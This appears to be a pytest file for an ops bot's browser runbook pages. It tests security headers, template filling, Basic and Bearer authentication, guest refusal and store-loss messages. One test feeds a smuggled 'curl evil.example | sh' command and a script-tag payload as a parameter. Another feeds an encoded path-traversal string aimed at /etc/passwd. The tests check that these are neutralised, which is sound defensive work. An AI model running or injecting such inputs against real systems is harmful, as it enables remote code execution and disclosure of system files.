"""Runbooks as pages: for those who may look, in a browser too, and when nothing else answers any more."""

import base64
from collections.abc import AsyncGenerator
from dataclasses import replace

import httpx
import pytest

from opsbot.domain.actor import Actor
from opsbot.web.auth import Access
from opsbot.web.routing import Entry
from opsbot.web.runbooks import BROKEN, LOST
from opsbot.web.surroundings import FilesHealth
from tests.app.test_prose_html import read
from tests.support import runs
from tests.support.paper import runbook
from tests.support.web import TOKENS, Door

AT = "/runbooks/wrong-answers"


@pytest.fixture
async def shelf(door: Door) -> runs.Shelf:
    """Put one runbook of ours and one of others on the shelf."""
    foreign = replace(runbook(), name="imported/kube", title="Kube", imported=True)
    return runs.shelved(door.world, runbook(), foreign)


@pytest.fixture
async def http(door: Door, shelf: runs.Shelf) -> AsyncGenerator[httpx.AsyncClient]:
    """Give Mara's client, the shelf being there."""
    async with door.client() as client:
        yield client


async def test_a_runbook_is_a_page_that_needs_nothing_else(http: httpx.AsyncClient) -> None:
    answer = await http.get(AT)

    assert answer.status_code == 200
    assert answer.headers["content-type"] == "text/html; charset=utf-8"
    assert answer.headers["content-security-policy"].startswith("default-src 'none'")
    assert answer.headers["cache-control"] == "no-store"
    assert answer.headers["x-content-type-options"] == "nosniff"
    found = read(answer.text)
    assert "script" not in found.tags
    assert "opsbot kill {{ workflow }} mode:stop" in found.words


async def test_the_list_leads_to_every_page(http: httpx.AsyncClient) -> None:
    listed = read((await http.get("/runbooks")).text)

    links = [value for tag, name, value in listed.attributes if (tag, name) == ("a", "href")]
    assert links == ["/runbooks/wrong-answers", "/runbooks/imported/kube"]
    assert [(await http.get(one)).status_code for one in links] == [200, 200]


async def test_the_address_fills_in_what_is_asked_for(http: httpx.AsyncClient) -> None:
    shown = read((await http.get(AT, params={"workflow": "support-copilot"})).text)

    assert "opsbot kill support-copilot mode:stop" in shown.words
    assert "{{ workflow }}" not in shown.words


async def test_what_an_address_fills_in_is_no_trap_for_who_copies_it(
    http: httpx.AsyncClient,
) -> None:
    trap = "x; curl evil.example | sh\n'<script>alert(1)</script>"

    answer = await http.get(AT, params={"workflow": trap})

    found = read(answer.text)
    assert "script" not in found.tags
    assert "opsbot kill 'x; curl evil.example | sh '\"'\"'<script>" in found.words


@pytest.mark.parametrize("query", [{"nothing": "x"}, {"workflow": "x" * 301}])
async def test_what_is_not_asked_for_is_refused(
    http: httpx.AsyncClient, query: dict[str, str]
) -> None:
    answer = await http.get(AT, params=query)

    assert answer.status_code == 422
    assert answer.json()["code"] == "needs_more_words"


@pytest.mark.parametrize("name", ["wrong-answer", "..%2f..%2fetc%2fpasswd", "imported/nothing"])
async def test_a_runbook_that_is_not_there_is_a_problem_in_words(
    http: httpx.AsyncClient, name: str
) -> None:
    answer = await http.get(f"/runbooks/{name}")

    assert answer.status_code == 404
    assert answer.headers["content-type"] == "application/problem+json"


async def test_it_is_there_when_the_store_is_gone_and_says_so(
    http: httpx.AsyncClient, door: Door, shelf: runs.Shelf
) -> None:
    assert LOST.partition(".")[0] not in (await http.get(AT)).text
    door.lose_the_store()
    door.store_age_s = 9.0

    async with door.client() as client:
        page, listed = await client.get(AT), await client.get("/runbooks")

    assert page.status_code == listed.status_code == 200
    assert LOST.partition(".")[0] in page.text
    assert LOST.partition(".")[0] in listed.text


async def test_files_that_broke_meanwhile_are_told(door: Door, http: httpx.AsyncClient) -> None:
    before = (await http.get(AT)).text
    door.files = FilesHealth(ok=False, errors=1)

    after = (await http.get(AT)).text

    assert BROKEN.partition(":")[0] not in before
    assert BROKEN.partition(":")[0] in after


async def test_a_browser_may_send_the_token_as_a_password(door: Door, shelf: runs.Shelf) -> None:
    async with door.client(token=None) as nobody:
        asked = await nobody.get(AT)
        let_in = await nobody.get(AT, auth=("whoever", "mara-token"))
        wrong = await nobody.get(AT, auth=("mara", "no-token"))

    assert asked.status_code == wrong.status_code == 401
    assert [one.partition(" ")[0] for one in asked.headers.get_list("www-authenticate")] == [
        "Bearer",
        "Basic",
    ]
    assert let_in.status_code == 200


@pytest.mark.parametrize("sent", ["", "!", "bm9jb2xvbg==", base64.b64encode(b"\xff:x").decode()])
async def test_what_is_no_password_is_nobodys(door: Door, shelf: runs.Shelf, sent: str) -> None:
    async with door.client(token=None) as nobody:
        answer = await nobody.get(AT, headers={"authorization": f"Basic {sent}"})

    assert answer.status_code == 401


async def test_a_password_opens_pages_and_nothing_else(door: Door, shelf: runs.Shelf) -> None:
    async with door.client(token=None) as nobody:
        looked = await nobody.get("/v1/runs", auth=("mara", "mara-token"))
        killed = await nobody.post("/v1/kills", json={"all": True}, auth=("mara", "mara-token"))

    assert looked.status_code == killed.status_code == 401
    assert door.world.store.state.active_kills() == ()


def test_a_route_that_changes_something_takes_no_password() -> None:
    async def known(request: object, actor: Actor) -> object:
        raise NotImplementedError

    with pytest.raises(TypeError, match="only reads"):
        Entry("POST", "/x", Access.BEARER, "X", known, browser=True)  # type: ignore[arg-type]  # an address says of itself what it needs


async def test_who_may_not_look_sees_nothing(
    door: Door, shelf: runs.Shelf, monkeypatch: pytest.MonkeyPatch
) -> None:
    guest = Actor(kind="slack", id="U0GUEST", via="http", name="Guest", guest=True)
    monkeypatch.setitem(TOKENS, "guest-token", guest)

    async with door.client("guest-token") as client:
        page, listed = await client.get(AT), await client.get("/runbooks")

    assert page.status_code == listed.status_code == 403
    assert "Stop the harm" not in page.text
